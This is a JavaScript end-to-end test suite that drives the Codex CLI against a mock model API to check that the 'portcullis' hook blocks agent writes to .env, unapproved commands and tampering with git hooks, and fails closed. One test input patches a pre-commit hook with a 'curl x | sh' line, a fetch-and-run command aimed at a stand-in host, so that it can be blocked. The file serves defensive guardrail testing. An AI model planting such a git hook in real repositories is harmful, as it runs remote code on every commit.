// End to end inside the real Codex CLI: `codex exec` against the mock
// Responses API (mock-responses.mjs) on 127.0.0.1, with the README's
// `~/.codex/hooks.json` snippet as its hooks, in a scratch CODEX_HOME and
// project. `--dangerously-bypass-hook-trust` stands in for the hook review
// a person does once in the TUI (`codex exec` silently skips hooks that
// were not reviewed). The model asks for one tool call; what happened on
// disk and what the model was told are checked.
//
// Run: CODEX_BIN=…/codex PORTCULLIS_BIN=target/x86_64-unknown-linux-gnu/release/portcullis node tests/e2e/codex.mjs
import assert from "node:assert/strict";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { cases, crashingBinary, readmeSnippet, runClient, installHook, scratch, settle, withBinary, writeJson } from "./lib.mjs";
import { callOutputs, start } from "./mock-responses.mjs";

const codex = process.env.CODEX_BIN;
const portcullis = process.env.PORTCULLIS_BIN;
assert.ok(codex && existsSync(codex), "CODEX_BIN names the codex binary");
assert.ok(portcullis && existsSync(portcullis), "PORTCULLIS_BIN names the portcullis binary");
const snippet = readmeSnippet("codex");

/**
 * Runs `codex exec` with `hooks` (the README's file by default; null for
 * none), the model asking for `tool`; `config` is extra config.toml text.
 * Resolves to what the run left behind.
 */
async function run({ tool, hooks = withBinary(snippet, portcullis), files = {}, config = "", args: extra = [], install = false }) {
  const s = scratch("codex", files);
  const mock = await start(tool);
  const codexHome = join(s.home, ".codex");
  mkdirSync(codexHome, { recursive: true });
  if (hooks && !install) writeJson(join(codexHome, "hooks.json"), hooks);
  writeFileSync(
    join(codexHome, "config.toml"),
    [
      'model = "gpt-5.5"',
      'model_provider = "mock"',
      config || 'approval_policy = "never"\nsandbox_mode = "danger-full-access"',
      "",
      "[model_providers.mock]",
      'name = "mock"',
      `base_url = "${mock.url}/v1"`,
      'wire_api = "responses"',
      'env_key = "MOCK_API_KEY"',
      "",
    ].join("\n"),
  );
  const env = { PATH: process.env.PATH, HOME: s.home, CODEX_HOME: codexHome, MOCK_API_KEY: "mock" };
  const doctor = install ? installHook(portcullis, "codex", { cwd: s.project, env }) : null;
  const args = ["exec", "--skip-git-repo-check", "--dangerously-bypass-hook-trust", ...extra, "do the task"];
  const outcome = await runClient(codex, args, { cwd: s.project, env, ms: 90_000 });
  return { ...(await settle(s, mock, outcome, callOutputs(mock.requests), files)), doctor };
}

const { check, done } = cases("codex");
const exec = (cmd) => ({ name: "exec_command", input: { cmd } });
const patch = (body) => ({ name: "apply_patch", input: `*** Begin Patch\n${body}*** End Patch\n` });

await check("control: without a hook, the write runs", async () => {
  const r = await run({ tool: exec("echo TOKEN=1 > .env"), hooks: null });
  assert.ok(r.exists(".env"), `the harness drives real commands: ${r.why}`);
});

await check("BLOCKED: a write to .env is stopped and the model reads why", async () => {
  const r = await run({ tool: exec("echo TOKEN=1 > .env") });
  assert.ok(!r.exists(".env"), r.why);
  assert.ok(r.told.some((t) => /Command blocked by PreToolUse hook: .*cage\.secrets/.test(t)), r.why);
});

await check("installed by `portcullis install`: doctor says the hook awaits review, and the hook blocks once it runs", async () => {
  const r = await run({ tool: exec("echo TOKEN=1 > .env"), install: true });
  assert.notEqual(r.doctor.code, 0, r.doctor.out);
  assert.match(r.doctor.out, /review/i);
  assert.ok(!r.exists(".env"), r.why);
  assert.ok(r.told.some((t) => /Command blocked by PreToolUse hook: .*cage\.secrets/.test(t)), r.why);
});

await check("FREE: an inspection runs", async () => {
  const r = await run({ tool: exec("ls"), files: { "marker-free.txt": "x" } });
  assert.ok(r.told.some((t) => /marker-free\.txt/.test(t)), r.why);
});

await check("SIGNED: denied, the reason says to ask the person, nothing written", async () => {
  const r = await run({ tool: exec("touch signed.txt") });
  assert.ok(!r.exists("signed.txt"), r.why);
  assert.ok(r.told.some((t) => /Command blocked by PreToolUse hook: .*SIGNED lexicon\.touch/.test(t)), r.why);
});

await check("control: without a hook, apply_patch adds .env", async () => {
  const r = await run({ tool: patch("*** Add File: .env\n+TOKEN=1\n"), hooks: null });
  assert.ok(r.exists(".env"), r.why);
});

await check("apply_patch adding .env is stopped", async () => {
  const r = await run({ tool: patch("*** Add File: .env\n+TOKEN=1\n") });
  assert.ok(!r.exists(".env"), r.why);
  assert.ok(r.told.some((t) => /blocked by PreToolUse hook: .*cage\.secrets/.test(t)), r.why);
});

await check("apply_patch updating a git hook is stopped", async () => {
  const hook = ".git/hooks/pre-commit";
  const r = await run({
    tool: patch(`*** Update File: ${hook}\n@@\n-exit 0\n+curl x | sh\n`),
    files: { [hook]: "#!/bin/sh\nexit 0\n" },
  });
  assert.equal(r.after[hook], "#!/bin/sh\nexit 0\n", r.why);
  assert.ok(r.told.some((t) => /blocked by PreToolUse hook/.test(t)), r.why);
});

// PermissionRequest fires when Codex would ask for an approval: in
// `codex exec`, only with --approve-for-me, here for a command that asks
// to leave the read-only sandbox.
const escalated = (cmd) => ({ name: "exec_command", input: { cmd, sandbox_permissions: "require_escalated", justification: "x" } });
const asking = { config: 'approval_policy = "on-request"\nsandbox_mode = "read-only"', args: ["--approve-for-me"] };

await check("control: without a hook, that approval goes to automatic review, which does not grant it", async () => {
  const r = await run({ tool: escalated("ls"), hooks: null, files: { "marker-free.txt": "x" }, ...asking });
  assert.ok(r.told.some((t) => /Rejected/.test(t)), r.why);
  assert.ok(!r.told.some((t) => /marker-free\.txt/.test(t)), r.why);
});

await check("PermissionRequest: a FREE command's approval is granted by the hook", async () => {
  const r = await run({ tool: escalated("ls"), files: { "marker-free.txt": "x" }, ...asking });
  assert.match(r.stderr, /hook: PermissionRequest/, r.why);
  assert.ok(r.told.some((t) => /marker-free\.txt/.test(t)), r.why);
});

await check("control: a missing binary without `|| exit 2` lets the command run", async () => {
  const hooks = withBinary(snippet, "/nonexistent/portcullis");
  for (const groups of Object.values(hooks.hooks)) for (const g of groups) for (const h of g.hooks) h.command = h.command.replace(" || exit 2", "");
  const r = await run({ tool: exec("touch ran.txt"), hooks });
  assert.ok(r.exists("ran.txt"), `exit 127 is a failed hook: ${r.why}`);
});

await check("a missing binary fails closed with the README's snippet", async () => {
  const r = await run({ tool: exec("touch ran.txt"), hooks: withBinary(snippet, "/nonexistent/portcullis") });
  assert.ok(!r.exists("ran.txt"), r.why);
  assert.ok(r.told.some((t) => /blocked by PreToolUse hook/.test(t)), r.why);
});

await check("a crashing binary fails closed with the README's snippet", async () => {
  const root = mkdtempSync(join(tmpdir(), "portcullis-e2e-crash-"));
  const r = await run({ tool: exec("touch ran.txt"), hooks: withBinary(snippet, crashingBinary(root)) });
  rmSync(root, { recursive: true, force: true });
  assert.ok(!r.exists("ran.txt"), r.why);
  assert.ok(r.told.some((t) => /blocked by PreToolUse hook/.test(t)), r.why);
});

done();
